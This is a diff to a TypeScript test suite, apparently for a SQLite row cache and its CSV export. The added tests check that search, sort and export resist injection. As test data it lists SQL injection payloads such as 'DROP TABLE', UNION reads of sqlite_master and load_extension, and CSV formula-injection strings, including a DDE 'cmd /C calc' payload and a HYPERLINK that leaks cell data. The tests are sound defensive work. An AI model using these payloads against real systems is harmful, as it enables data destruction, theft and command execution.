@@ -94,6 +94,59 @@ describe('rows', () => {
     expect(cache.db.prepare('SELECT count(*) FROM runs').pluck().get()).toBe(0);
   });
 
+  it('are the same after 200 attempts to break out of a search or a sort', async () => {
+    const kept: [string, string, number, number][] = [
+      ['1', 'Ada', 1, 1],
+      ['2', 'Bo', 2, 0],
+    ];
+    write(kept);
+    const heads = [
+      '',
+      "'",
+      '"',
+      '`',
+      '\\',
+      '%',
+      "')",
+      '"]',
+      '--',
+      '\0',
+      'Ada',
+      'Name',
+      '_id',
+      '@pattern',
+      '? ',
+      ':x',
+      '\u02bc',
+      '＇',
+      '1',
+      'NULL',
+    ];
+    const tails = [
+      ' OR 1=1 --',
+      ' UNION SELECT name, sql, 1, 1 FROM sqlite_master --',
+      '; DROP TABLE runs; --',
+      "; ATTACH DATABASE '/tmp/x' AS x; --",
+      ' OR _gone = 1) --',
+      ' COLLATE NOCASE; PRAGMA writable_schema = ON; --',
+      "' ESCAPE '%' OR '1' LIKE '1",
+      ' LIMIT 0 OFFSET 99999; --',
+      ") OR load_extension('x') --",
+      ' IN (SELECT 1) /*',
+    ];
+    const attempts = heads.flatMap((head) => tails.map((tail) => head + tail));
+    expect(new Set(attempts).size).toBe(200);
+    for (const text of attempts) {
+      expect(await names(text), text).toEqual([]);
+      expect(await names('', { column: text, descending: true }), text).toHaveLength(2);
+      const named = `${text}" DESC, "Name`;
+      expect(await names('a', { column: named, descending: false }), text).toEqual(['Ada']);
+    }
+    expect(cache.db.prepare('SELECT count(*) FROM runs').pluck().get()).toBe(0);
+    expect(cache.db.pragma('integrity_check', { simple: true })).toBe('ok');
+    expect((await reader.rows({ jobId, offset: 0, limit: 10, search: '', sort: null })).rows).toEqual(kept);
+  });
+
   it('never answer with rows that do not hold the text, whatever is typed', async () => {
     write(Array.from({ length: 50 }, (_, at) => [`k${at}`, `x${'%_\\\'"'[at % 5]}${at}`, null, null]));
     await fc.assert(
@@ -162,32 +215,53 @@ describe('CSV export', () => {
     expect(readdirSync(folder).filter((name) => name.endsWith('.part'))).toEqual([]);
   });
 
-  it.each([
-    '=1+1',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    '\t=1',
-    '\r=1',
-    '\n=1',
-    '＝1',
-    '＋1',
-    '－1',
-    '＠a',
-    '−1',
-    '=HYPERLINK("http://x")',
-  ])('has no cell that begins like the formula %j, in rows and header', async (text) => {
+  const STARTS_LIKE_A_FORMULA = /^[=+\-@\t\r\n＝＋－＠−﹢﹣﹦﹫]/;
+  const starts = [...'=+-@\t\r\n＝＋－＠−﹢﹣﹦﹫'];
+  const formulas = starts.flatMap((start) => [
+    start,
+    `${start}1+1`,
+    `${start}cmd|' /C calc'!A0`,
+    `${start}HYPERLINK("http://x.test?"&A1,"Open")`,
+    `${start}${start}SUM(A1:A9)`,
+  ]);
+
+  it(`has no cell that begins like one of ${formulas.length} formulas, in rows and header`, async () => {
+    expect(formulas.length).toBeGreaterThanOrEqual(60);
     const path = join(folder, 'formula.csv');
-    await writeCsv(path, [text], [[text], ['harmless']]);
-    for (const [cell] of read(path)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠−]/);
+    await writeCsv(path, formulas, [formulas, [...formulas].reverse()]);
+    const lines = read(path);
+    expect(lines.map(({ length }) => length)).toEqual(Array(3).fill(formulas.length));
+    expect(lines.flat().filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);
+    // Guarded, not changed: what follows the guard is the text.
+    expect(lines[1]?.map((cell) => cell.slice(1))).toEqual(formulas);
+  });
+
+  it('guards rows and rejected records alike', async () => {
+    write(formulas.map((text, at) => [`${text} ${at}`, text, at, null]));
+    inTransaction(cache.db, () => {
+      ledger.beginRun(1);
+      ledger.reject(
+        0,
+        formulas.map((text) => ({ key: text, reason: text, by: 'mapping' as const })),
+      );
+    });
+    const [rows, rejected] = [join(folder, 'rows.csv'), join(folder, 'rejected.csv')];
+    expect(await reader.exportRows(jobId, '', rows)).toBe(formulas.length);
+    expect(await reader.exportRejected(runId, rejected)).toBe(formulas.length);
+    for (const path of [rows, rejected])
+      expect(
+        read(path)
+          .flat()
+          .filter((cell) => STARTS_LIKE_A_FORMULA.test(cell)),
+      ).toEqual([]);
   });
 
   it('gives benign texts and all numbers back exactly', async () => {
     const path = join(folder, 'round.csv');
     const benign = fc
       .string({ unit: 'grapheme', maxLength: 30 })
-      .filter((text) => !/^[=+\-@\t\r\n＝＋－＠−﹣'\ufeff]/.test(text));
-    const rows = fc.sample(fc.tuple(benign, fc.double({ noNaN: true, noDefaultInfinity: true })), 2_000);
+      .filter((text) => !STARTS_LIKE_A_FORMULA.test(text) && !/^['\ufeff]/.test(text));
+    const rows = fc.sample(fc.tuple(benign, fc.double({ noNaN: true, noDefaultInfinity: true })), 10_000);
     await writeCsv(path, ['text', 'number'], rows);
     expect(read(path).slice(1)).toEqual(rows.map(([text, number]) => [text, String(number)]));
   });
